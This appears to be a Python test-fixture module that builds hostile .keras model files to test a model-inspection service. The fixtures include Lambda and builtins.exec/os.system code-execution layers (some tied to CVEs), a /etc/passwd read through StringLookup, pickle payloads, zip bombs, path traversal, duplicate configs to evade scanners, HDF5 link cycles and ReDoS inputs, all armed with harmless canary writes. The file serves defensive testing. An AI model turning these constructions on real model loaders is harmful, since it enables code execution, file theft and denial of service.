"""Hostile .keras files: a real model saved by Keras, then its config.json or weights edited."""

from __future__ import annotations

import copy
import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

import h5py

from tests.hostile.base import (
    LOOP,
    OpenCanary,
    arm_lambdas,
    config_layers,
    function_layer,
    keras_with_config,
    saved_keras_members,
    secret_h5,
    self_linked_group,
    write_zip,
)

# ---------------------------------------------------------------------------------------------------------------
# .keras attacks
# ---------------------------------------------------------------------------------------------------------------


def keras_lambda(tmp_dir: Path, canary: Path) -> Path:
    """CVE-2024-3660: a Lambda layer whose marshalled bytecode writes the canary when the model is built."""
    return keras_with_config(tmp_dir, "lambda.keras", lambda c: arm_lambdas(c, canary), with_lambda=True)


def keras_builtins_exec(tmp_dir: Path, canary: Path) -> Path:
    """CVE-2025-1550 style: a 'layer' that is builtins.exec, called with attacker code as its input."""

    def edit(config):
        code = f"open({str(canary)!r}, 'w').close()"
        config_layers(config).insert(1, function_layer("builtins", "exec", "exec_layer", [code], {}))

    return keras_with_config(tmp_dir, "builtins_exec.keras", edit)


def keras_os_system(tmp_dir: Path, canary: Path) -> Path:
    """safe_mode bypass through a module outside keras: a 'layer' that is os.system running a shell command."""

    def edit(config):
        config_layers(config).insert(1, function_layer("os", "system", "shell", [f"touch '{canary}'"], {}))

    return keras_with_config(tmp_dir, "os_system.keras", edit)


def keras_foreign_module_class(tmp_dir: Path, canary: Path) -> Path:
    """A stock class name under a module of the attacker's choosing (import side effects, lookalike classes)."""

    def edit(config):
        config_layers(config)[1]["module"] = "antigravity"  # importing it opens a web browser

    return keras_with_config(tmp_dir, "foreign_module.keras", edit)


def keras_registered_name(tmp_dir: Path, canary: Path) -> Path:
    """A stock layer whose registered_name points at a custom object registered by some installed package."""

    def edit(config):
        config_layers(config)[1]["registered_name"] = "keras_hub>Dense"

    return keras_with_config(tmp_dir, "registered_name.keras", edit)


def keras_get_file(tmp_dir: Path, canary: Path) -> Path:
    """CVE-2025-8747: keras.utils.get_file as a 'layer', 'downloading' a local file:// URL into the canary."""
    source = Path(tmp_dir) / "exfiltrated.txt"
    source.write_text("secret\n")

    def edit(config):
        kwargs = {
            "fname": canary.name,
            "origin": source.resolve().as_uri(),
            "cache_dir": str(canary.parent),
            "cache_subdir": ".",
        }
        config_layers(config).insert(1, function_layer("keras.utils", "get_file", "fetch", [], kwargs))

    return keras_with_config(tmp_dir, "get_file.keras", edit)


def keras_enable_unsafe_chain(tmp_dir: Path, canary: Path) -> Path:
    """CVE-2025-9906: call keras.config.enable_unsafe_deserialization from the config, then load a Lambda."""

    def edit(config):
        arm_lambdas(config, canary)
        config_layers(config).insert(
            1, function_layer("keras.config", "enable_unsafe_deserialization", "unlock", [], {})
        )

    return keras_with_config(tmp_dir, "unsafe_chain.keras", edit, with_lambda=True)


def keras_tfsm_layer(tmp_dir: Path, canary: Path) -> Path:
    """A TFSMLayer: loads (and runs) a SavedModel from a path on the server."""

    def edit(config):
        layer = config_layers(config)[1]
        layer["class_name"] = "TFSMLayer"
        layer["config"] = {"name": "dense", "filepath": str(tmp_dir / "saved_model"), "call_endpoint": "serve"}

    return keras_with_config(tmp_dir, "tfsm.keras", edit)


def keras_vocabulary_file(tmp_dir: Path, canary: Path) -> Path:
    """A StringLookup whose vocabulary is a file on the server (reads server files into the model)."""

    def edit(config):
        layers = config_layers(config)
        lookup = copy.deepcopy(layers[1])
        lookup["class_name"] = "StringLookup"
        lookup["config"] = {"name": "lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1}
        lookup["name"] = "lookup"
        layers.insert(1, lookup)

    return keras_with_config(tmp_dir, "vocabulary_file.keras", edit)


def keras_unknown_custom_object(tmp_dir: Path, canary: Path) -> Path:
    """A custom layer class from the attacker's own package."""

    def edit(config):
        layer = config_layers(config)[1]
        layer.update(module="evil_layers", class_name="Backdoor", registered_name="evil>Backdoor")

    return keras_with_config(tmp_dir, "custom_object.keras", edit)


def keras_huge_layer_config(tmp_dir: Path, canary: Path) -> Path:
    """A Dense layer whose config declares a 2**20 x 2**20 kernel: Keras allocates it while building the model,
    before it ever compares with the (small) weights file."""

    def edit(config):
        layer = config_layers(config)[1]
        layer["config"]["units"] = 2**20
        layer["build_config"] = {"input_shape": [None, 2**20]}

    return keras_with_config(tmp_dir, "huge_layer.keras", edit)


def keras_deep_config(tmp_dir: Path, canary: Path) -> Path:
    """A config nested 50,000 levels deep (crashes recursive parsers)."""
    members = [(n, d) for n, d in saved_keras_members() if n != "config.json"]
    config = json.dumps(json.loads(dict(saved_keras_members())["config.json"]))
    deep = "[" * 50_000 + "]" * 50_000
    config = config.replace('"trainable": true', f'"trainable": {deep}', 1)
    return write_zip(Path(tmp_dir) / "deep.keras", [("config.json", config.encode())] + members)


def keras_zip_bomb(tmp_dir: Path, canary: Path) -> Path:
    """A weights member that inflates ~1000x (64 MiB of zeros in ~64 KiB)."""
    dst = Path(tmp_dir) / "bomb.keras"
    members = [(n, d) for n, d in saved_keras_members() if n != "model.weights.h5"]
    write_zip(dst, members)
    with zipfile.ZipFile(dst, "a") as zf:
        info = zipfile.ZipInfo("model.weights.h5", (2024, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as f:
            chunk = bytes(1 << 20)
            for _ in range(64):
                f.write(chunk)
    return dst


def keras_parent_path_member(tmp_dir: Path, canary: Path) -> Path:
    """A member named ../.../canary: extracting the archive writes outside the extraction folder."""
    name = os.path.relpath(canary, Path(tmp_dir) / "extracted")
    return write_zip(Path(tmp_dir) / "traversal.keras", list(saved_keras_members()) + [(name, b"pwned\n")])


def keras_absolute_member(tmp_dir: Path, canary: Path) -> Path:
    """A member with an absolute path (the canary's)."""
    return write_zip(Path(tmp_dir) / "absolute.keras", list(saved_keras_members()) + [(str(canary), b"pwned")])


def keras_pickle_member(tmp_dir: Path, canary: Path) -> Path:
    """An extra member holding a pickle that opens the canary when unpickled."""
    payload = pickle.dumps(OpenCanary(canary))
    return write_zip(Path(tmp_dir) / "pickle_member.keras", list(saved_keras_members()) + [("model.pkl", payload)])


def keras_duplicate_config(tmp_dir: Path, canary: Path) -> Path:
    """Two config.json members: a benign one for naive scanners, an armed one that zipfile reads last."""
    armed = dict(saved_keras_members(with_lambda=True))["config.json"]
    config = json.loads(armed)
    arm_lambdas(config, canary)
    members = list(saved_keras_members()) + [("config.json", json.dumps(config).encode())]
    return write_zip(Path(tmp_dir) / "duplicate.keras", members)


def keras_weights_external_link(tmp_dir: Path, canary: Path) -> Path:
    """model.weights.h5 inside the .keras whose layer vars are an HDF5 external link to another file."""
    secret = secret_h5(tmp_dir)
    members = []
    for member, data in saved_keras_members():
        if member == "model.weights.h5":
            buf = io.BytesIO(data)
            with h5py.File(buf, "r+") as f:
                del f["layers/dense/vars"]
                f["layers/dense/vars"] = h5py.ExternalLink(str(secret), "/vars")
            data = buf.getvalue()
        members.append((member, data))
    return write_zip(Path(tmp_dir) / "external_weights.keras", members)


def keras_escaped_quotes_config(tmp_dir: Path, canary: Path) -> Path:
    """config.json is one unterminated string of 64,000 escaped quotes (a 385-byte upload once deflated): a string
    pattern that retries from every quote scans the rest of the text each time, quadratic time (48 s)."""
    members = [(n, d) for n, d in saved_keras_members() if n != "config.json"]
    config = b'"' + b'\\"' * 64_000
    return write_zip(
        Path(tmp_dir) / "escaped_quotes.keras", [("config.json", config)] + members, compression=zipfile.ZIP_DEFLATED
    )


def keras_escaped_quotes_metadata(tmp_dir: Path, canary: Path) -> Path:
    """The same unterminated string of escaped quotes (32,000 of them) in metadata.json (12 s)."""
    members = [(n, d) for n, d in saved_keras_members() if n != "metadata.json"]
    metadata = b'"' + b'\\"' * 32_000
    return write_zip(
        Path(tmp_dir) / "escaped_quotes_metadata.keras",
        members + [("metadata.json", metadata)],
        compression=zipfile.ZIP_DEFLATED,
    )


def keras_with_weights(tmp_dir: Path, name: str, edit: Callable[[h5py.File], None]) -> Path:
    """Save a real model, edit its model.weights.h5 with h5py, and zip it back up."""
    members = []
    for member, data in saved_keras_members():
        if member == "model.weights.h5":
            buf = io.BytesIO(data)
            with h5py.File(buf, "r+") as f:
                edit(f)
            data = buf.getvalue()
        members.append((member, data))
    return write_zip(Path(tmp_dir) / name, members)


def keras_weights_link_maze(tmp_dir: Path, canary: Path, depth: int = 100_000, links: int = 4) -> Path:
    """A valid model whose weights also hold a group hard-linked to itself and soft links whose targets walk that
    cycle `depth` levels deep (~500 KB each): following the targets costs one object open per level (180 s per
    inspection), and every target resolves inside the file."""

    def edit(f):
        self_linked_group(f)
        for i in range(links):
            f[f"maze_{i}"] = h5py.SoftLink("/" + LOOP + "/loop" * depth)

    return keras_with_weights(tmp_dir, "link_maze.keras", edit)


def keras_weights_self_linked_group(tmp_dir: Path, canary: Path) -> Path:
    """A weights file whose group /layers/dense/loop holds a hard link to itself (a cycle for naive walkers)."""
    return keras_with_weights(tmp_dir, "self_linked.keras", self_linked_group)


def keras_deep_sequential(tmp_dir: Path, canary: Path, layers: int = 4_000) -> Path:
    """A Sequential model of `layers` Dense(4) layers (2.4 MB): within max_layers, but Keras rebuilds a Sequential
    after each layer it adds while loading, so loading it takes hours. Not a MODEL_ATTACKS entry: inspection itself
    passes it and reports `sequential_layers`; the service bounds that (limits.max_sequential_layers)."""
    import keras

    path = Path(tmp_dir) / "deep_sequential.keras"
    keras.Sequential([keras.Input((4,)), keras.layers.Dense(4, name="dense")]).save(path)
    with zipfile.ZipFile(path) as zf:
        members = [(info.filename, zf.read(info)) for info in zf.infolist()]
    config = json.loads(dict(members)["config.json"])
    dense = config_layers(config)[1]
    clones = []
    for i in range(layers):
        clone = copy.deepcopy(dense)
        clone["config"]["name"] = f"dense_{i}"
        clones.append(clone)
    config["config"]["layers"][1:] = clones
    members = [(n, json.dumps(config).encode() if n == "config.json" else d) for n, d in members]
    return write_zip(path, members)
